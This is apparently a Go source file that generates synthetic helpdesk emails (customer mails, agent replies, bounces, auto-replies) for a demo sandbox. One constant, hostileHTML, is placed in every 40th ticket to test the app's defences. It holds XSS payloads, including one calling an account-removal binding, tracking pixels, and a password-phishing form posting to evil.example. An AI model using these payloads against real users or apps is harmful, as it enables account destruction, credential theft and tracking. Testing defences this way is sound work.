package sandbox

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"html"
	"math/rand"
	"mime"
	"mime/quotedprintable"
	"net/mail"
	"strings"
	"time"
)

// part is one MIME body part.
type part struct {
	contentType string // with parameters
	body        []byte
	filename    string // set for attachments (base64)
}

// header is an ordered list of header fields.
type header [][2]string

func (h *header) add(k, v string) { *h = append(*h, [2]string{k, v}) }

func addr(name, email string) string { return (&mail.Address{Name: name, Address: email}).String() }

func msgID(id string) string { return "<" + id + ">" }

// buildMessage renders an RFC 5322 message with CRLF line ends. One part is a
// single-part body; text plus html is multipart/alternative; attachments
// wrap that in multipart/mixed.
func buildMessage(h header, text, htmlBody string, attachments []part, boundarySeed string) []byte {
	var b bytes.Buffer
	for _, f := range h {
		fmt.Fprintf(&b, "%s: %s\r\n", f[0], f[1])
	}
	b.WriteString("MIME-Version: 1.0\r\n")
	textPart := part{contentType: "text/plain; charset=utf-8", body: []byte(text)}
	var body part
	var inner bytes.Buffer
	if htmlBody != "" {
		alt := "alt-" + boundarySeed
		writeMultipart(&inner, alt, []part{textPart, {contentType: "text/html; charset=utf-8", body: []byte(htmlBody)}})
		body = part{contentType: fmt.Sprintf("multipart/alternative; boundary=%q", alt), body: inner.Bytes()}
	} else {
		body = textPart
	}
	if len(attachments) > 0 {
		mixed := "mix-" + boundarySeed
		fmt.Fprintf(&b, "Content-Type: multipart/mixed; boundary=%q\r\n\r\n", mixed)
		writeMultipart(&b, mixed, append([]part{body}, attachments...))
		return b.Bytes()
	}
	writePartBody(&b, body)
	return b.Bytes()
}

func writeMultipart(b *bytes.Buffer, boundary string, parts []part) {
	b.WriteString("This is a multi-part message in MIME format.\r\n")
	for _, p := range parts {
		fmt.Fprintf(b, "\r\n--%s\r\n", boundary)
		writePartBody(b, p)
	}
	fmt.Fprintf(b, "\r\n--%s--\r\n", boundary)
}

// writePartBody writes Content-* headers, a blank line and the encoded body.
func writePartBody(b *bytes.Buffer, p part) {
	fmt.Fprintf(b, "Content-Type: %s\r\n", p.contentType)
	switch {
	case strings.HasPrefix(p.contentType, "multipart/"):
		b.WriteString("\r\n")
		b.Write(p.body)
	case p.filename != "":
		fmt.Fprintf(b, "Content-Disposition: attachment; filename=%q\r\nContent-Transfer-Encoding: base64\r\n\r\n", p.filename)
		enc := base64.StdEncoding.EncodeToString(p.body)
		for len(enc) > 76 {
			b.WriteString(enc[:76] + "\r\n")
			enc = enc[76:]
		}
		b.WriteString(enc + "\r\n")
	default:
		b.WriteString("Content-Transfer-Encoding: quoted-printable\r\n\r\n")
		var qp bytes.Buffer
		qw := quotedprintable.NewWriter(&qp)
		_, _ = qw.Write([]byte(crlf(string(p.body))))
		_ = qw.Close()
		b.Write(qp.Bytes())
		b.WriteString("\r\n")
	}
}

func crlf(s string) string {
	return strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\n", "\r\n")
}

func textToHTML(s string) string {
	var b strings.Builder
	b.WriteString("<html><body>")
	for _, p := range strings.Split(s, "\n\n") {
		b.WriteString("<p>" + strings.ReplaceAll(html.EscapeString(p), "\n", "<br>") + "</p>")
	}
	b.WriteString("</body></html>")
	return b.String()
}

func subject(s string) string { return mime.QEncoding.Encode("utf-8", s) }

func mailDate(t time.Time) string { return t.Format(time.RFC1123Z) }

// replyAddress is the brand address carrying the ticket's reply key.
func replyAddress(key string) string { return "support+" + key + "@" + brandDomain }

// tinyPDF and tinyPNG are small but well-formed attachments.
var (
	tinyPDF    = []byte("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
	tinyPNG, _ = base64.StdEncoding.DecodeString("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
)

// originalMail is the customer's first mail, which GitLab turned into the ticket.
func originalMail(rnd *rand.Rand, is *Issue) Mail {
	var h header
	h.add("From", addr(is.Customer.Name, is.Customer.Email))
	h.add("To", BrandAddress)
	h.add("Subject", subject(is.Title))
	h.add("Date", mailDate(is.CreatedAt))
	h.add("Message-ID", msgID(is.MessageID))
	if is.InReplyTo != "" {
		h.add("In-Reply-To", msgID(is.InReplyTo))
		h.add("References", msgID(is.InReplyTo))
	}
	var htmlBody string
	if rnd.Intn(10) < 4 {
		htmlBody = textToHTML(is.Description)
	}
	var att []part
	switch rnd.Intn(14) {
	case 0:
		att = []part{{contentType: "application/pdf", filename: "invoice-" + hexString(rnd, 6) + ".pdf", body: tinyPDF}}
	case 1:
		att = []part{{contentType: "image/png", filename: "screenshot.png", body: tinyPNG}}
	}
	boundary := hexString(rnd, 16)
	if is.IID%HostileEvery == 0 {
		if htmlBody == "" {
			htmlBody = textToHTML(is.Description)
		}
		htmlBody = strings.Replace(htmlBody, "</body>", hostileHTML+"</body>", 1)
	}
	raw := buildMessage(h, is.Description, htmlBody, att, boundary)
	return Mail{Folder: FolderInbox, MessageID: is.MessageID, Date: is.CreatedAt, IssueIID: is.IID, Kind: "original", Raw: raw}
}

// HostileEvery: the original mail of every ticket whose iid is a multiple
// of it carries hostileHTML, as mail from a compromised or careless sender
// does, so the window's defences are exercised on real data (ticket #240 of
// the default demo among them).
const HostileEvery = 40

// hostileHTML tries everything mail HTML must never do in the app: run
// script, call the app's Go bindings, load remote content (pixels, CSS),
// submit forms, frame other pages and navigate.
const hostileHTML = `<div class="footer" style="background:url(https://tracker.example/bg.png)">` +
	`<script>document.title='pwned';window.go&&window.go.app.App.RemoveAccount(1)</script>` +
	`<img src="https://tracker.example/open.gif?u=1" width="1" height="1" alt="">` +
	`<img src="x" onerror="document.title='pwned-onerror'">` +
	`<p><a href="javascript:document.title='pwned-link'">View our privacy notice</a> ` +
	`<a href="https://acme-customer.example/unsubscribe">Unsubscribe</a></p>` +
	`<form action="https://evil.example/steal" method="post"><input name="password"><button>Verify account</button></form>` +
	`<iframe src="https://evil.example/frame"></iframe>` +
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">` +
	`<style>@import url(https://tracker.example/css.css); p{background-image:url(https://tracker.example/p.png)}</style>` +
	`</div>`

// replyMail is an agent's public note as GitLab's custom email sends it.
func replyMail(is *Issue, n *Note, agent User, lastOurs string) Mail {
	id := fmt.Sprintf("note_%d@%s", n.ID, gitlabHost)
	refs := []string{msgID(is.MessageID)}
	if lastOurs != "" {
		refs = append(refs, msgID(lastOurs))
	}
	refs = append(refs, msgID("reply-"+is.ReplyKey+"@"+gitlabHost))
	var h header
	h.add("From", addr(BrandName, BrandAddress))
	h.add("Reply-To", addr(BrandName, replyAddress(is.ReplyKey)))
	h.add("To", addr(is.Customer.Name, is.Customer.Email))
	h.add("Subject", subject(fmt.Sprintf("Re: %s (#%d)", is.Title, is.IID)))
	h.add("Date", mailDate(n.CreatedAt))
	h.add("Message-ID", msgID(id))
	h.add("In-Reply-To", msgID(is.MessageID))
	h.add("References", strings.Join(refs, " "))
	h.add("X-GitLab-Project", "acme/support")
	h.add("X-GitLab-Issue-IID", fmt.Sprint(is.IID))
	h.add("X-Mailer", "GitLab Service Desk (agent "+agent.Username+")")
	raw := buildMessage(h, n.Body, textToHTML(n.Body), nil, fmt.Sprintf("%x", n.ID))
	return Mail{Folder: FolderSent, MessageID: id, Date: n.CreatedAt, IssueIID: is.IID, Kind: "reply", Raw: raw}
}

// followupMail is a customer's answer to our reply, sent to the reply-key address.
func followupMail(is *Issue, n *Note, lastOurs string) Mail {
	domain := is.Customer.Email[strings.Index(is.Customer.Email, "@")+1:]
	id := fmt.Sprintf("%x.%d@mail.%s", n.CreatedAt.UnixNano(), n.ID, domain)
	parent := lastOurs
	if parent == "" {
		parent = is.MessageID
	}
	var h header
	h.add("From", addr(is.Customer.Name, is.Customer.Email))
	h.add("To", addr(BrandName, replyAddress(is.ReplyKey)))
	h.add("Subject", subject(fmt.Sprintf("Re: %s (#%d)", is.Title, is.IID)))
	h.add("Date", mailDate(n.CreatedAt))
	h.add("Message-ID", msgID(id))
	h.add("In-Reply-To", msgID(parent))
	h.add("References", strings.Join([]string{msgID(is.MessageID), msgID(parent), msgID("reply-" + is.ReplyKey + "@" + gitlabHost)}, " "))
	text := n.Body + "\n\n" + is.Customer.Name + "\n\nOn " + n.CreatedAt.Add(-time.Hour).Format("Mon, 2 Jan 2006") + ", Acme Support <" + BrandAddress + "> wrote:\n> Hi, thanks for getting in touch."
	raw := buildMessage(h, text, "", nil, fmt.Sprintf("%x", n.ID))
	return Mail{Folder: FolderInbox, MessageID: id, Date: n.CreatedAt, IssueIID: is.IID, Kind: "followup", Raw: raw}
}

// extraMails are mails GitLab never made into tickets, and one auto-reply.
func (w *World) extraMails(rnd *rand.Rand) []Mail {
	type extra struct {
		name, email, subj, body, kind string
		hdr                           [][2]string
	}
	var out []Mail
	extras := []extra{
		{"Ruth Abernathy", "ruth@abernathy-law.com", "Invoice question (sent from my phone)", "Hi, we received an invoice from one of your customers and the payment link gives a 404. Can you help?\n\nRuth", "unticketed", nil},
		{"Kenji Watanabe", "kenji.watanabe@osaka-precision.jp", "請求書のPDFについて / invoice PDF", "Hello, the Japanese characters in our company name are shown as boxes in the invoice PDF. Please advise.\n\nKenji Watanabe", "unticketed", nil},
		{"Mail Delivery Subsystem", "mailer-daemon@mx.northwind-traders.com", "Undelivered Mail Returned to Sender", "This is the mail system at host mx.northwind-traders.com.\n\nI'm sorry to have to inform you that your message could not be delivered: mailbox full.", "unticketed", [][2]string{{"Auto-Submitted", "auto-generated"}}},
		{"Fatima Haddad", "fatima@haddad-events.ae", "Pricing for 40 users?", "Hello Acme, we are evaluating invoicing tools for our events company with about 40 staff. Do you offer volume pricing?\n\nFatima Haddad\nHaddad Events", "unticketed", nil},
		{"Paul Vermeulen", "paul@vermeulen-bouw.nl", "Re: your invoice", "Please stop sending me invoices, I am not a customer of this company.\n\nPaul", "unticketed", nil},
	}
	for i, e := range extras {
		at := w.now.Add(-time.Duration(1+rnd.Intn(historyDays*24)) * time.Hour).Truncate(time.Second)
		id := fmt.Sprintf("%s.extra%d@%s", hexString(rnd, 12), i, e.email[strings.Index(e.email, "@")+1:])
		var h header
		h.add("From", addr(e.name, e.email))
		h.add("To", BrandAddress)
		h.add("Subject", subject(e.subj))
		h.add("Date", mailDate(at))
		h.add("Message-ID", msgID(id))
		for _, f := range e.hdr {
			h.add(f[0], f[1])
		}
		out = append(out, Mail{Folder: FolderInbox, MessageID: id, Date: at, Kind: e.kind, Raw: buildMessage(h, e.body, "", nil, hexString(rnd, 16))})
	}
	// One out-of-office answer to one of our replies: it carries the reply key
	// but GitLab ignores it because of Auto-Submitted.
	for _, is := range w.issues {
		ns := w.notes[is.IID]
		if len(ns) < 3 || is.State != "opened" {
			continue
		}
		var reply *Note
		for _, n := range ns {
			if !n.System && !n.Internal && n.AuthorID != w.bot.ID {
				reply = n
				break
			}
		}
		if reply == nil {
			continue
		}
		at := reply.CreatedAt.Add(90 * time.Second)
		id := fmt.Sprintf("ooo-%s@%s", hexString(rnd, 10), is.Customer.Email[strings.Index(is.Customer.Email, "@")+1:])
		var h header
		h.add("From", addr(is.Customer.Name, is.Customer.Email))
		h.add("To", addr(BrandName, replyAddress(is.ReplyKey)))
		h.add("Subject", subject("Automatic reply: Re: "+is.Title+fmt.Sprintf(" (#%d)", is.IID)))
		h.add("Date", mailDate(at))
		h.add("Message-ID", msgID(id))
		h.add("In-Reply-To", msgID(fmt.Sprintf("note_%d@%s", reply.ID, gitlabHost)))
		h.add("Auto-Submitted", "auto-replied")
		h.add("X-Autoreply", "yes")
		body := "I am out of the office until next Monday with limited access to e-mail. For urgent matters please contact our office.\n\n" + is.Customer.Name
		out = append(out, Mail{Folder: FolderInbox, MessageID: id, Date: at, IssueIID: 0, Kind: "autoreply", Raw: buildMessage(h, body, "", nil, hexString(rnd, 16))})
		break
	}
	return out
}
